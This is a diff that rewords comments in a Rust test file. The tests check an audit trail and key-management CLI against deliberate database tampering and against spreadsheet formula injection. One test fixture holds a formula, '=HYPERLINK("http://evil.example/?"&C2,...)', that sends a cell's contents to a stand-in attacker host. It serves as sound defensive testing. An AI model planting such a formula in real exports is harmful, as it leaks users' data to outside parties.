@@ -1,4 +1,4 @@
-//! What operators do to keys, the trail and what is left behind.
+//! Operators' work on keys, the trail, and old data.
 
 use serde_json::Value;
 
@@ -83,7 +83,7 @@ on_both_stores! {
         for at in 0..120 {
             created(&cli, &format!("Key{at}"));
             if at > 3 {
-                // The rest needs no process each: copies are made by the server.
+                // The others need no command each: the server copies rows.
                 break;
             }
         }
@@ -236,7 +236,7 @@ on_both_stores! {
         cli.ok("members set-role --workspace ws_1 --role VIEWER mallory");
         assert_eq!(cli.run("audit verify").status.code(), Some(0), "an operator has looked at it");
 
-        // Members and their trail are put back to the start, and told otherwise.
+        // Members and their trail are reset to the start and rewritten.
         let start = if matches!(on, On::Sqlite) { "zeroblob(32)" } else { "decode(repeat('00', 32), 'hex')" };
         store.database.tamper(&format!(
             "DELETE FROM deployment_events; DELETE FROM members;
@@ -265,7 +265,7 @@ on_both_stores! {
         cli.fails(&format!("audit heads --key-file {short}"), 1, "32 bytes");
         let printed = cli.ok(&format!("audit heads --key-file {key}"));
         std::fs::write(&heads, &printed).unwrap();
-        // The trail may go on.
+        // The trail may continue.
         created(&cli, "Another");
         let verify = format!("audit verify --heads {heads}");
         assert_eq!(cli.run(&verify).status.code(), Some(0));
@@ -280,7 +280,7 @@ on_both_stores! {
         cli.fails(&format!("audit verify --heads {key}"), 1, "audit heads");
         std::fs::write(&heads, &printed).unwrap();
 
-        // Everything is put back to before the first event, and told otherwise.
+        // Everything is reset to before the first event and rewritten.
         for table in ["audit_events", "secret_uses", "api_keys"] {
             store.database.tamper(&format!("DELETE FROM {table}")).await;
         }
@@ -296,7 +296,7 @@ on_both_stores! {
         assert_eq!(String::from_utf8_lossy(&verified.stdout), told);
     }
 
-    /// A client's own request id stands in the trail.
+    /// The trail contains a client's own request id.
     async fn no_text_of_a_caller_is_a_formula_in_a_spreadsheet(on: On) {
         const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&C2,\"ok\")";
         let store = TestStore::create(on).await;
